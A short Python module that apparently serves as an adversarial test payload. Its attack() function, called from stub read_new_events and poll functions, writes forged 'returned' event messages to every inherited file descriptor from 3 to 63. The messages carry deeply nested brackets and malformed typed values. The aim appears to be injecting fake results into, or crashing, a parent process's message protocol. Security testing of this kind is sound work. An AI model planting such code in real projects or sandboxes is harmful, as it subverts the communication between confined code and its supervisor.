import os


def attack():
    print("TRIED", flush=True)
    values = [b"[" * depth + b"]" * depth for depth in (100, 300, 800)]
    for value in (*values, b'{"$bytes":3}', b'{"$set":[[]]}', b'{"$new":[]}', b'{"$dict":[[[],1]]}'):
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"type":"returned","value":' + value + b"}\n")
            except OSError:
                pass


def read_new_events(path, offset):
    attack()


def poll(*args, **kwargs):
    attack()
